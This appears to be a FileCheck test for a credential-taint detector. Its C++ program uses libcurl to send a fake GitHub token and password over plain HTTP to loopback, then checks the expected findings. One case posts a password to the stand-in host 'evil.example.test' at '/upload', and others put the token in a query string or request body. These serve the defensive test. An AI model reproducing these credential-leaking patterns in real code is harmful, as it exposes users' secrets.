// libcurl requests to an HTTP server on loopback, under names mapped to
// 127.0.0.1 with CURLOPT_RESOLVE (no DNS). A GitHub token (default scope
// github.com, api.github.com, ...) in a header to http://api.github.com is
// cleartext-transmission; in the query string it is also credential-in-url,
// with the URL redacted in the report. A password (no scope) sent with
// CURLOPT_USERPWD to http://evil.example.test is cleartext and unscoped
// (low). A request without credentials is no finding.
// SECRET: ghp_e2eNetCurlHttp0123456789abcdefABCDEF
// SECRET: e2e-fake-NetPa55word!
// RUN: %credtaint-cxx -O2 %s -o %t -lcurl
// RUN: rm -rf %t.logs
// RUN: env CREDTAINT_OPTIONS=%ctopts API_TOKEN=ghp_e2eNetCurlHttp0123456789abcdefABCDEF python3 %S/Inputs/netserve.py http -- %t {http} > %t.out 2> %t.err
// RUN: FileCheck --implicit-check-not="==CREDTAINT:" %s < %t.err
// RUN: FileCheck --check-prefix=OUT %s < %t.out
// RUN: cat %records | count 6
// RUN: cat %records | FileCheck --check-prefix=JSON %s
#include <cstdio>
#include <cstdlib>
#include <curl/curl.h>
#include <string>

static size_t discard(char *, size_t Size, size_t N, void *) { return Size * N; }

static CURL *newRequest(curl_slist *resolve) {
  CURL *c = curl_easy_init();
  curl_easy_setopt(c, CURLOPT_RESOLVE, resolve);
  curl_easy_setopt(c, CURLOPT_PROXY, ""); // never a proxy from the environment
  curl_easy_setopt(c, CURLOPT_TIMEOUT, 20L);
  curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, discard);
  return c;
}

static void perform(CURL *c) {
  CURLcode rc = curl_easy_perform(c);
  long status = 0;
  curl_easy_getinfo(c, CURLINFO_RESPONSE_CODE, &status);
  std::printf("%s %ld\n", rc == CURLE_OK ? "ok" : curl_easy_strerror(rc), status);
  curl_easy_cleanup(c);
}

int main(int argc, char **argv) {
  if (argc < 2)
    return 1;
  std::string port = argv[1];
  const char *token = std::getenv("API_TOKEN");
  std::string password = "e2e-fake-NetPa55word!";
  curl_global_init(CURL_GLOBAL_DEFAULT);
  curl_slist *resolve = nullptr;
  for (const char *name : {"api.github.com", "evil.example.test"})
    resolve = curl_slist_append(resolve, (name + (":" + port) + ":127.0.0.1").c_str());

  // The token in a header, over http.
  CURL *c = newRequest(resolve);
  std::string auth = std::string("Authorization: Bearer ") + token;
  curl_slist *headers = curl_slist_append(nullptr, auth.c_str());
  curl_easy_setopt(c, CURLOPT_HTTPHEADER, headers);
// CHECK: CREDTAINT: cleartext-transmission: token API_TOKEN (ghp_****{{.*}}, 40 bytes) reached curl_easy_setopt(CURLOPT_HTTPHEADER) to api.github.com:[[PORT:[0-9]+]] over http at {{.*}}net-curl-http.cpp:[[@LINE-1]]
// CHECK-NEXT: url http://api.github.com:[[PORT]]/user{{$}}
  std::string url = "http://api.github.com:" + port + "/user";
  curl_easy_setopt(c, CURLOPT_URL, url.c_str());
  perform(c);
  curl_slist_free_all(headers);

  // The token in the query string.
  c = newRequest(resolve);
  url = "http://api.github.com:" + port + "/user/repos?per_page=1&access_token=" + token;
  curl_easy_setopt(c, CURLOPT_URL, url.c_str());
// CHECK: CREDTAINT: cleartext-transmission: token API_TOKEN ({{.*}}) reached curl_easy_setopt(CURLOPT_URL) to api.github.com:[[PORT]] over http at {{.*}}net-curl-http.cpp:[[@LINE-1]]
// CHECK-NEXT: url http://api.github.com:[[PORT]]/user/repos?per_page=1&access_token=ghp_****{{[^ ]*$}}
// CHECK: CREDTAINT: credential-in-url: token API_TOKEN ({{.*}}) reached curl_easy_setopt(CURLOPT_URL) to api.github.com:[[PORT]] over http at {{.*}}net-curl-http.cpp:[[@LINE-3]]
  perform(c);

  // A password, to a host it was never meant for.
  c = newRequest(resolve);
  std::string userpwd = "svc-backup:" + password;
  curl_easy_setopt(c, CURLOPT_USERPWD, userpwd.c_str());
  url = "http://evil.example.test:" + port + "/upload";
  curl_easy_setopt(c, CURLOPT_URL, url.c_str());
  curl_easy_setopt(c, CURLOPT_POSTFIELDS, "{\"report\": 1}");
  perform(c);
// CHECK: CREDTAINT: cleartext-transmission: password password ({{.*}}) reached curl_easy_setopt(CURLOPT_USERPWD) to evil.example.test:[[PORT]] over http at {{.*}}net-curl-http.cpp:[[@LINE-5]]
// CHECK: CREDTAINT: unscoped-network-use: password password ({{.*}}) reached curl_easy_setopt(CURLOPT_USERPWD) to evil.example.test:[[PORT]] over http at {{.*}}net-curl-http.cpp:[[@LINE-6]]
// CHECK: rule unscoped-network-use (CWE-668, low)

  // The token in the body of a POST to http.
  c = newRequest(resolve);
  url = "http://api.github.com:" + port + "/graphql";
  curl_easy_setopt(c, CURLOPT_URL, url.c_str());
  std::string body = std::string("{\"token\": \"") + token + "\"}";
  curl_easy_setopt(c, CURLOPT_POSTFIELDS, body.c_str());
// CHECK: CREDTAINT: cleartext-transmission: token API_TOKEN ({{.*}}) reached curl_easy_setopt(CURLOPT_POSTFIELDS) to api.github.com:[[PORT]] over http at {{.*}}net-curl-http.cpp:[[@LINE-1]]
  perform(c);

  // Fine: no credential in the request.
  c = newRequest(resolve);
  url = "http://api.github.com:" + port + "/zen";
  curl_easy_setopt(c, CURLOPT_URL, url.c_str());
  perform(c);

  curl_slist_free_all(resolve);
  curl_global_cleanup();
  return 0;
}
// OUT: ok 200
// OUT-NEXT: ok 200
// OUT-NEXT: ok 200
// OUT-NEXT: ok 200
// OUT-NEXT: ok 200
// JSON: "rule":"cleartext-transmission"
// JSON-SAME: "sink":{"category":"network","function":"curl_easy_setopt(CURLOPT_HTTPHEADER)",{{.*}}"transport":"http","host":"api.github.com","port":{{[0-9]+}},"url":"http://api.github.com:{{[0-9]+}}/user","part":"httpheader"}
// JSON: "rule":"credential-in-url"
// JSON-SAME: "url":"http://api.github.com:{{[0-9]+}}/user/repos?per_page=1&access_token=ghp_****
// JSON-SAME: "part":"url"
// JSON: "rule":"unscoped-network-use"
// JSON-SAME: "severity":"low"
// JSON-SAME: "host":"evil.example.test"
